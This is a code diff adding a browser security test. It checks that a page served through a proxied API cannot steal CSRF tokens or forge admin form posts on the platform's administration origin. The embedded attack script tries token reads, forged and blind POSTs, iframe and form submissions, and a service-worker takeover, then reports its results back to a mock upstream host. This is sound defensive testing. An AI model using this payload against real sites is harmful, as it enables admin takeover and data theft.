@@ -1,0 +1,152 @@
+import { once } from 'node:events';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import type { Server } from 'node:http';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { hashPassword } from '../../src/auth/password-hashes/new-password.ts';
+import type { RunningServer } from '../http/servers.ts';
+import { buildProject, makeSampleProject, removeProject, startBuiltServer } from '../http/servers.ts';
+import { launchBrowser } from './browser.ts';
+
+const LOCAL = 'config/autoload/local.yaml';
+const FORM = '/platform/admin/authentication/new';
+/** Longer than the attack takes. */
+const ATTACK_MILLISECONDS = 20_000;
+const CONFIGURATION = `platform-mvc-auth:
+  authentication:
+    adapters:
+      admins:
+        adapter: Platform\\MvcAuth\\Authentication\\HttpAdapter
+        options: { accept_schemes: [basic], realm: admins, htpasswd: data/admins }
+platform-admin: { adapter: admins }
+`;
+const DESCRIPTOR = {
+  openapi: '3.1.0',
+  info: { title: 'Shop', version: '1' },
+  paths: { '/shop/{file}': { get: { operationId: 'file', parameters: [{ name: 'file', in: 'path', required: true }], responses: {} } } },
+};
+
+/** Runs in a page of the upstream, below the public origin. What it finds out and reaches goes back to the upstream. */
+const ATTACK = `
+const report = async (name, attempt) => {
+  let result;
+  try { result = await Promise.race([attempt(), new Promise((_, fail) => setTimeout(() => fail(new Error('timeout')), 4000))]); }
+  catch (error) { result = String(error); }
+  results[name] = result;
+};
+const results = {};
+const read = async (origin) => {
+  const page = await (await fetch(origin + '${FORM}', { credentials: 'include' })).text();
+  return Object.fromEntries([...page.matchAll(/name="(version|token)" value="([^"]*)"/g)].map(([, name, value]) => [name, value]));
+};
+const fields = (hidden, name) => new URLSearchParams({ ...hidden, name, type: 'basic', realm: 'owned', htpasswd: 'data/' + name,
+  user: 'mallory', password: 'mallory', intent: 'create-file' });
+const attackOn = async (origin, label) => {
+  await report(label + ': token', async () => ({ token: (await read(origin)).token ?? null }));
+  await report(label + ': post', async () => {
+    const answer = await fetch(origin + '${FORM}', { method: 'POST', credentials: 'include', redirect: 'manual', body: fields(await read(origin).catch(() => ({})), 'owned' + label) });
+    return answer.type + ' ' + answer.status;
+  });
+  await report(label + ': blind post', async () => {
+    const answer = await fetch(origin + '${FORM}', { method: 'POST', mode: 'no-cors', credentials: 'include', body: fields({}, 'blind' + label) });
+    return answer.type + ' ' + answer.status;
+  });
+  await report(label + ': frame', async () => {
+    const frame = document.body.appendChild(document.createElement('iframe'));
+    frame.src = origin + '${FORM}';
+    await new Promise((loaded) => { frame.onload = loaded; });
+    return { token: frame.contentDocument?.querySelector('[name=token]')?.value ?? null };
+  });
+  await report(label + ': form', async () => {
+    const frame = document.body.appendChild(document.createElement('iframe'));
+    frame.name = 'target' + label;
+    const form = document.body.appendChild(document.createElement('form'));
+    Object.assign(form, { method: 'POST', action: origin + '${FORM}', target: frame.name });
+    for (const [name, value] of fields({}, 'form' + label)) form.append(Object.assign(document.createElement('input'), { name, value }));
+    form.submit();
+    await new Promise((loaded) => setTimeout(loaded, 1500));
+    return 'sent';
+  });
+};
+(async () => {
+  const [, origins] = location.hash.split('#');
+  await report('service worker', async () => (await navigator.serviceWorker.register('/shop/worker', { scope: '/' })).scope);
+  for (const [index, origin] of decodeURIComponent(origins).split(' ').entries()) await attackOn(origin, 'o' + index);
+  await fetch('/shop/report?' + encodeURIComponent(JSON.stringify(results)));
+})();
+`;
+
+/** Would answer every page of the origin from then on. */
+const WORKER = "onfetch = (event) => event.respondWith(new Response('owned'))";
+const FILES: Readonly<Record<string, readonly [type: string, text: string]>> = {
+  '/shop/page': ['text/html', `<!doctype html><body><script>${ATTACK}</script>`],
+  '/shop/worker': ['text/javascript', WORKER],
+};
+
+let folder: string;
+let server: RunningServer;
+let browser: Browser;
+let upstream: Server;
+let reported: Promise<unknown>;
+
+beforeAll(async () => {
+  let report: (results: unknown) => void;
+  reported = new Promise((resolve) => {
+    report = resolve;
+  });
+  upstream = createServer((request, response) => {
+    const [path, query = ''] = (request.url ?? '').split('?');
+    if (path === '/shop/report') report(JSON.parse(decodeURIComponent(query)));
+    const [type, text] = FILES[path ?? ''] ?? ['text/plain', ''];
+    response.writeHead(200, { 'content-type': type, 'service-worker-allowed': '/' }).end(text);
+  }).listen(0, '127.0.0.1');
+  await once(upstream, 'listening');
+  const target = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
+  folder = makeSampleProject();
+  mkdirSync(join(folder, 'data'), { recursive: true });
+  mkdirSync(join(folder, 'api-descriptors/shop'), { recursive: true });
+  writeFileSync(join(folder, 'api-descriptors/shop/v1.json'), JSON.stringify(DESCRIPTOR));
+  writeFileSync(join(folder, 'data/admins'), `root:${hashPassword('toor', 'sha1')}\n`);
+  writeFileSync(join(folder, LOCAL), `${CONFIGURATION}platform-services: { shop: { backend: proxy, target: '${target}' } }\n`);
+  buildProject(folder);
+  [server, browser] = await Promise.all([startBuiltServer(folder), launchBrowser()]);
+}, 120_000);
+afterAll(async () => {
+  await browser?.close();
+  await server?.stop();
+  upstream?.close();
+  upstream?.closeAllConnections();
+  removeProject(folder);
+});
+
+test('a page of a proxied API, in the browser of an administrator, neither reads nor sends a form of the administration', async () => {
+  const administration = server.admin.origin;
+  const before = readFileSync(join(folder, LOCAL), 'utf8');
+  const context = await browser.newContext({ httpCredentials: { username: 'root', password: 'toor' } });
+  const page = await context.newPage();
+  // The administrator is logged in: the browser remembers the credentials of that origin.
+  expect((await page.goto(administration + FORM))?.status()).toBe(200);
+  const origins = [server.origin, administration, administration.replace('127.0.0.1', 'localhost')];
+  // As if nothing kept the page from running: the address alone has to hold.
+  await page.route('**/shop/page', async (route) => {
+    const response = await route.fetch();
+    const { 'content-security-policy': _, ...headers } = response.headers();
+    await route.fulfill({ response, headers });
+  });
+  await page.goto(`${server.origin}/shop/page#${encodeURIComponent(origins.join(' '))}`);
+  const timer = new Promise((_, reject) => setTimeout(() => reject(new Error('The attack did not end.')), ATTACK_MILLISECONDS));
+  const results = Object.entries((await Promise.race([reported, timer])) as Record<string, unknown>);
+  const form = await page.goto(administration + FORM);
+  expect([form?.status(), await form?.text()]).toEqual([200, expect.stringContaining('name="token"')]);
+  await context.close();
+  expect(readFileSync(join(folder, LOCAL), 'utf8')).toBe(before);
+  // The attack ran: each of five attempts on each of three origins, and the worker.
+  expect(results).toHaveLength(16);
+  for (const [name, result] of results) {
+    if (/token|frame/.test(name)) expect([name, (result as { token?: unknown }).token ?? null]).toEqual([name, null]);
+    if (name === 'o0: post') expect([name, result]).toEqual([name, 'basic 404']);
+  }
+}, 60_000);
